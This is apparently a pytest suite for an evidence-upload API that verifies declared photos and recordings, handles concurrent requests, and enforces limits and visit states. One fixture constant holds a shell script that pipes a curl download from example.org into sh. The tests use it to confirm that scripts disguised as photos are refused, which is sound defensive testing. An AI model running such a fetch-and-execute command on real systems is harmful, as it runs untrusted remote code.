"""Declaring and verifying evidence, against the real object store."""

import asyncio
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import pytest

from incognita_evidence.report import Item
from incognita_evidence.settings import EvidenceSettings
from incognita_evidence.uploads import policy
from incognita_evidence.visit import Visit, VisitState
from incognita_shared.objects import ObjectStore

Make = Callable[..., Any]
Accept = Callable[[Visit], Awaitable[Visit]]
SCRIPT = b"#!/bin/sh\ncurl http://example.org/x | sh\n"


@pytest.fixture
async def visit(accept: Accept, make_visit: Make) -> Visit:
    return await accept(make_visit())


async def test_a_declared_photo_can_be_uploaded_and_is_verified(
    shopper: Any, visit: Visit, photo: Make, said: Make, db: Any, declaration: Make, post: Make
) -> None:
    declared = await shopper.post(f"/v1/visits/{visit.id}/uploads", json=declaration(photo()))
    assert declared.status_code == 201
    body = declared.json()
    assert body["state"] == "declared"
    verify = f"/v1/visits/{visit.id}/uploads/{body['item_id']}:verify"
    early = await shopper.post(verify)
    assert (early.status_code, early.headers["retry-after"]) == (409, "1")
    assert (await post(body["upload"], photo())).status_code == 204
    verified = await shopper.post(verify)
    assert verified.status_code == 200
    assert verified.json()["state"] == "stored"
    assert (await shopper.post(verify)).json() == verified.json()
    assert await said(visit) == [("evidence.stored", 1)]
    (item,) = (await db["reports"].find_one({"_id": visit.id}))["items"]
    assert item["exif"]["position"]["latitude"] == pytest.approx(43.467448, abs=1e-6)
    assert [link["what"] for link in item["custody"]] == ["declared", "stored"]
    assert item["custody"][1]["version_id"] == item["version_id"]
    assert "NIKON" not in str(item)


async def test_the_same_file_declared_again_is_the_same_item(
    shopper: Any, visit: Visit, *, photo: Make, uploaded: Make, declaration: Make, db: Any
) -> None:
    url, at = f"/v1/visits/{visit.id}/uploads", "2026-05-04T10:31:00.123456Z"
    item_id = await uploaded(visit, photo(), captured_at=at)
    before = await db["reports"].find_one({"_id": visit.id})
    again = await shopper.post(url, json=declaration(photo(), captured_at=at))
    assert (again.status_code, again.json()["item_id"]) == (200, item_id)
    assert again.json()["upload"]["fields"]
    assert await db["reports"].find_one({"_id": visit.id}) == before
    changed = await shopper.post(url, json=declaration(photo(), content_type="image/heic"))
    assert (changed.status_code, changed.json()["item_id"]) == (200, item_id)
    assert changed.json()["upload"]["fields"]["Content-Type"] == "image/heic"
    await shopper.post(f"{url}/{item_id}:verify")
    last = await shopper.post(url, json=declaration(photo()))
    assert (last.status_code, last.json()["state"]) == (200, "stored")
    assert last.json()["upload"] is None


async def test_twenty_declarations_at_once_lose_none(
    shopper: Any, visit: Visit, db: Any, declaration: Make
) -> None:
    async def declare(number: int) -> int:
        answer = await shopper.post(
            f"/v1/visits/{visit.id}/uploads", json=declaration(b"file %d" % number)
        )
        return int(answer.status_code)

    assert await asyncio.gather(*map(declare, range(20))) == [201] * 20
    assert len((await db["reports"].find_one({"_id": visit.id}))["items"]) == 20


async def test_the_store_refuses_other_bytes_than_declared(
    shopper: Any, visit: Visit, photo: Make, declaration: Make, post: Make
) -> None:
    declared = await shopper.post(f"/v1/visits/{visit.id}/uploads", json=declaration(photo()))
    other = photo()[:-1] + bytes([photo()[-1] ^ 1])
    assert (await post(declared.json()["upload"], other)).status_code == 400


async def test_an_expired_policy_is_refused_and_a_fresh_one_works(
    shopper: Any, visit: Visit, photo: Make, store: ObjectStore, declaration: Make, post: Make
) -> None:
    declared = await shopper.post(f"/v1/visits/{visit.id}/uploads", json=declaration(photo()))
    item = Item(
        item_id=declared.json()["item_id"], kind="photo", question_id=None, captured_at=None,
        sha256=declaration(photo())["sha256"], size_bytes=len(photo()), position=None,
        content_type="image/jpeg", duration_s=None, declared_at="2026-01-01T00:00:00Z",
        object_key=declared.json()["upload"]["fields"]["key"],
    )  # fmt: skip
    brief = policy(item, store=store, expiry_s=1)
    assert brief is not None
    deadline = asyncio.get_running_loop().time() + 10
    status = 204
    while status == 204 and asyncio.get_running_loop().time() < deadline:
        await asyncio.sleep(0.3)
        status = (await post(brief.model_dump(), photo())).status_code
    assert status in (400, 403)
    fresh = await shopper.post(f"/v1/visits/{visit.id}/uploads", json=declaration(photo()))
    assert (await post(fresh.json()["upload"], photo())).status_code == 204


async def test_verifying_at_once_from_all_sides_stores_an_item_once(
    shopper: Any, visit: Visit, uploaded: Make, submit: Make, said: Make, photo: Make
) -> None:
    item_id = await uploaded(visit, photo())
    verify = f"/v1/visits/{visit.id}/uploads/{item_id}:verify"
    calls = [shopper.post(verify) for _ in range(5)] + [submit(visit) for _ in range(5)]
    answers = await asyncio.gather(*calls)
    assert {answer.status_code for answer in answers} == {200}
    assert await said(visit) == [("evidence.stored", 1), ("report.completed", 2)]


async def test_a_script_named_photo_is_refused_and_does_not_count(
    shopper: Any,
    visit: Visit,
    *,
    uploaded: Make,
    submit: Make,
    said: Make,
    declaration: Make,
    db: Any,
) -> None:
    item_id = await uploaded(visit, SCRIPT)
    for _ in range(2):
        answer = await shopper.post(f"/v1/visits/{visit.id}/uploads/{item_id}:verify")
        assert answer.status_code == 422
        (error,) = answer.json()["errors"]
        assert error["field"] == f"items.{item_id}"
        assert "text/plain" in error["cause"]
    again = await shopper.post(f"/v1/visits/{visit.id}/uploads", json=declaration(SCRIPT))
    assert (again.json()["state"], again.json()["upload"]) == ("refused", None)
    assert await said(visit) == []
    assert await db["media"].count_documents({}) == 0
    assert (await submit(visit)).json()["state"] == "incomplete"


async def test_a_script_is_also_refused_when_submitting(
    visit: Visit, uploaded: Make, submit: Make, photo: Make, said: Make, shopper: Any
) -> None:
    script = await uploaded(visit, SCRIPT)
    await uploaded(visit, photo())
    answer = await submit(visit)
    assert answer.status_code == 422
    assert [error["field"] for error in answer.json()["errors"]] == [f"items.{script}"]
    assert await said(visit) == [("evidence.stored", 1)]
    report = (await shopper.get(f"/v1/visits/{visit.id}/report")).json()
    assert (report["state"], report["answers"]) == ("open", {})
    assert {item["state"] for item in report["items"]} == {"refused", "stored"}


async def test_a_photo_of_another_allowed_type_counts_with_a_remark(
    visit: Visit, uploaded: Make, submit: Make, photo: Make, said_bodies: Make
) -> None:
    await uploaded(visit, photo(), content_type="image/heic")
    assert (await submit(visit)).json()["state"] == "completed"
    (completed,) = await said_bodies(visit, "report.completed")
    assert [(f["code"], f["severity"]) for f in completed["findings"]] == [
        ("type_mismatch", "info")
    ]
    assert completed["items"][0]["content_type"] == "image/jpeg"


async def test_a_recording_is_taken(
    visit: Visit, uploaded: Make, shopper: Any, media: Path
) -> None:
    data = (media / "198-209-0000.ogg").read_bytes()
    item_id = await uploaded(visit, data, kind="audio", content_type="audio/ogg", duration_s=12.5)
    answer = await shopper.post(f"/v1/visits/{visit.id}/uploads/{item_id}:verify")
    assert (answer.status_code, answer.json()["state"]) == (200, "stored")


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"content_type": "text/x-shellscript"}, "content_type"),
        ({"content_type": "audio/ogg"}, "content_type"),
        ({"content_type": "nonsense"}, "content_type"),
        ({"size_bytes": 25_000_001}, "size_bytes"),
        ({"size_bytes": 0}, "size_bytes"),
        ({"sha256": "abc"}, "sha256"),
        ({"sha256": "A" * 64}, "sha256"),
        ({"kind": "hologram"}, "kind"),
        ({"question_id": "unheard-of"}, "question_id"),
        ({"captured_at": "yesterday"}, "captured_at"),
        ({"captured_at": "0001-01-01T00:00:00+14:00"}, "captured_at"),
        ({"position": {"latitude": 91, "longitude": 0}}, "position.latitude"),
        ({"duration_s": -1}, "duration_s"),
        ({"owner": "me"}, "owner"),
    ],
)
async def test_a_wrong_declaration_names_its_field(
    shopper: Any, visit: Visit, db: Any, *, changes: dict[str, Any], field: str, declaration: Make
) -> None:
    answer = await shopper.post(f"/v1/visits/{visit.id}/uploads", json=declaration(b"x", **changes))
    assert answer.status_code == 422, answer.text
    assert [error["field"] for error in answer.json()["errors"]] == [field]
    assert await db["reports"].count_documents({}) == 0


async def test_a_visit_takes_a_bounded_number_of_items(
    shopper: Any, visit: Visit, declaration: Make
) -> None:
    url = f"/v1/visits/{visit.id}/uploads"
    for number in range(30):  # as the app of these tests is set
        await shopper.post(url, json=declaration(b"%d" % number))
    answer = await shopper.post(url, json=declaration(b"one more"))
    assert answer.status_code == 409
    assert "30" in answer.json()["detail"]


async def test_a_completed_report_takes_no_further_item(
    shopper: Any, visit: Visit, *, uploaded: Make, submit: Make, photo: Make, declaration: Make
) -> None:
    await uploaded(visit, photo())
    assert (await submit(visit)).json()["state"] == "completed"
    late = await shopper.post(f"/v1/visits/{visit.id}/uploads", json=declaration(SCRIPT))
    assert late.status_code == 409
    report = (await shopper.get(f"/v1/visits/{visit.id}/report")).json()
    assert len(report["items"]) == 1


@pytest.mark.parametrize("state", ["cancelled", "expired", "declined"])
async def test_a_closed_visit_takes_nothing_and_says_why(
    shopper: Any,
    accept: Accept,
    make_visit: Make,
    db: Any,
    submission: Make,
    state: str,
    declaration: Make,
) -> None:
    visit = await accept(make_visit(state=VisitState(state)))
    base = f"/v1/visits/{visit.id}"
    answers = [
        await shopper.post(f"{base}/uploads", json=declaration(b"x")),
        await shopper.put(f"{base}/report/answers", json={"answers": {"greeted": True}}),
        await shopper.post(
            f"{base}/report:submit", json=submission(), headers={"Idempotency-Key": "k"}
        ),
        await shopper.post(f"{base}/uploads/some-item:verify"),
    ]
    assert [answer.status_code for answer in answers] == [409] * 4
    assert all(answer.json()["state"] == state for answer in answers)
    assert await db["reports"].count_documents({}) == 0


async def test_an_offered_visit_is_to_be_tried_again(
    shopper: Any, accept: Accept, make_visit: Make, declaration: Make
) -> None:
    visit = await accept(make_visit(state=VisitState.OFFERED))
    answer = await shopper.post(f"/v1/visits/{visit.id}/uploads", json=declaration(b"x"))
    assert (answer.status_code, answer.headers["retry-after"]) == (409, "1")


async def test_anothers_visit_is_not_found(client_as: Make, visit: Visit, make_visit: Make) -> None:
    foreign = [
        await client_as("shopper", shopper_id="shopper-2"),
        await client_as("shopper", shopper_id="shopper-1", chain_id="chain-b"),
        await client_as("shopper", shopper_id=None),
    ]
    for client in foreign:
        for visit_id in (visit.id, make_visit().id):
            answer = await client.get(f"/v1/visits/{visit_id}/report")
            assert answer.status_code == 404


def test_each_kind_has_a_limit_of_its_own() -> None:
    own = EvidenceSettings()
    assert [own.limit_bytes(kind) for kind in ("photo", "audio", "video")] == [
        25_000_000, 200_000_000, 2_000_000_000,
    ]  # fmt: skip
